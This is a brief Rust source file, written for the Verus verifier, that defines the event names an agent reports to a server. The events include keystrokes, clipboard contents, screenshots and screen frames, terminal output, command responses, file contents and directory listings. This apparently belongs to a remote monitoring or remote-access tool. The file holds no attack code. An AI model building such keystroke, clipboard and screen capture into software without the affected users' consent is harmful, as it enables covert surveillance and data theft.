//! Names of the events the agent sends.

use vstd::prelude::*;

verus! {

pub const AUTH: &'static str = "auth";
pub const HEARTBEAT: &'static str = "heartbeat";
pub const SCREENSHOT: &'static str = "screenshot";
pub const SCREEN_FRAME: &'static str = "screen_frame";
pub const ACTIVITY_LOG: &'static str = "activity_log";
pub const KEYSTROKES: &'static str = "keystrokes";
pub const CLIPBOARD: &'static str = "clipboard";
pub const PROCESS_LIST: &'static str = "process_list";
pub const COMMAND_RESPONSE: &'static str = "command_response";
pub const TERMINAL_OUTPUT: &'static str = "terminal_output";
pub const FILE_TRANSFER_PROGRESS: &'static str = "file_transfer_progress";
pub const FILE_CONTENT: &'static str = "file_content";
pub const DIRECTORY_LISTING: &'static str = "directory_listing";

} // verus!
